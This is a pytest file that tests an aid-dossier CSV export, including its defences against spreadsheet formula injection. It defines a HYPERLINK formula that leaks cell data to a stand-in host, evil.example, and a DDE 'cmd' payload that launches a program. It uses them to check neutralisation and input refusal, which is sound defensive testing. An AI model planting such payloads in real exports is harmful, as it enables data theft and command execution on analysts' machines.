"""The CSV export as an analyst opens it: the dossier first, one column per aid's amount, values
a spreadsheet reads as they are, and nothing it would run as a formula."""

import csv
import io
import re
from typing import Any
from uuid import UUID

import pytest
from api import as_, caseworker, drive, file
from fastapi.testclient import TestClient
from httpx2 import Response
from payloads import review_body, session_body
from sqlalchemy import update

from app.api.auth import Role
from app.api.csv_export import neutralised
from app.settings import Settings
from app.store.database import sql_engine
from projections.tables import active_generation, tables

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
COMMAND = "+cmd|' /C calc'!A0"
UTC_TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z")


def export(client: TestClient, after: Response, reference: str) -> tuple[str, dict[str, str]]:
    """The export's text and the dossier's row, once the view reflects the write `after`."""
    params = {"min_position": after.headers["X-Event-Position"], "reference": reference}
    response = client.get("/exports/dossiers.csv", params=params)
    assert response.status_code == 200, response.text
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    return response.text, row


def test_the_export_names_the_dossier_then_each_aid_s_amounts(client: TestClient) -> None:
    filed = file(client)
    dossier = filed.headers["Location"]
    reviewed = drive(client, dossier, ("review", review_body()))
    text, row = export(client, reviewed, filed.json()["reference"])
    header = text.splitlines()[0].replace('"', "").split(",")
    assert header[:2] == ["id", "reference"]
    assert (row["id"], row["reference"]) == (filed.json()["id"], filed.json()["reference"])
    amounts = {name: row[name] for name in header if name.startswith(("aced_", "afe_"))}
    assert amounts == {
        "aced_requested": "1320.50",
        "aced_proposed": "1320.50",
        "aced_granted": "",
        "afe_requested": "1800.00",
        "afe_proposed": "1500.00",
        "afe_granted": "",
    }
    assert [row[f"{aid}_requested"] for aid in ("fci", "adr")] == ["", ""]  # not requested
    assert (row["requested"], row["proposed"], row["granted"]) == ("3120.50", "2820.50", "")
    assert row["delegated"] == "false"
    assert UTC_TIME.fullmatch(row["filed_at"])
    assert UTC_TIME.fullmatch(row["reviewed_at"])
    assert re.fullmatch(r"\d{4}-\d\d-\d\d", row["implicit_rejection_date"])
    assert row["decided_at"] == ""


def test_a_value_a_spreadsheet_would_run_is_exported_as_text(
    client: TestClient, settings: Settings
) -> None:
    filed = file(client)
    reference = filed.json()["reference"]
    export(client, filed, reference)  # the view holds the dossier
    # Values stored before references and subjects were checked at input.
    engine = sql_engine(settings)
    try:
        with engine.begin() as connection:
            summary, _ = tables("dossiers", active_generation(connection, "dossiers"))
            connection.execute(
                update(summary)
                .where(summary.c.id == UUID(filed.json()["id"]))
                .values(session_reference=HYPERLINK, reviewer=COMMAND)
            )
    finally:
        engine.dispose()
    text, row = export(client, filed, reference)
    assert row["session_reference"] == "'" + HYPERLINK
    assert row["reviewer"] == "'" + COMMAND
    assert '"\'=HYPERLINK(""http://evil.example/' in text  # quoted, its quotes doubled
    assert ',"=' not in text


@pytest.mark.parametrize("text", ["=1+1", "+33612345678", "-2", "@SUM(A1:A9)", "\tx", "\rx"])
def test_a_cell_a_spreadsheet_would_evaluate_starts_with_a_quote(text: str) -> None:
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["CASS-PDL-2026-12", "agent-pdl-007", "", "1320.50", "a=b"])
def test_a_cell_that_is_just_text_is_left_as_it_is(text: str) -> None:
    assert neutralised(text) == text


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"reference": HYPERLINK}, "body.reference"),
        ({"reference": "@CASS-PDL"}, "body.reference"),
        ({"reference": "CASS-" + "X" * 56}, "body.reference"),
        ({"members": ["cass-pdl-m1", COMMAND, "cass-pdl-m3"]}, "body.members[1]"),
    ],
    ids=["formula-reference", "at-reference", "too-long-reference", "command-member"],
)
def test_a_session_named_like_a_formula_is_refused(
    client: TestClient, overrides: dict[str, Any], field: str
) -> None:
    refused = client.post(
        "/cass-sessions", json=session_body(**overrides), headers=caseworker(client)
    )
    assert refused.status_code == 422, refused.text
    [error] = refused.json()["errors"]
    assert error["field"] == field
    assert "formula" in error["reason"] or "60" in error["reason"]


@pytest.mark.parametrize("subject", [COMMAND, "=1+1", "-agent", "@agent", "\tagent"])
def test_a_token_whose_subject_reads_as_a_formula_is_refused(
    client: TestClient, subject: str
) -> None:
    region = ("pays-de-la-loire",)
    assert client.get(
        "/dossiers", headers=as_(client, Role.CASEWORKER, "agent-1", region)
    ).is_success
    refused = client.get("/dossiers", headers=as_(client, Role.CASEWORKER, subject, region))
    assert refused.status_code == 401
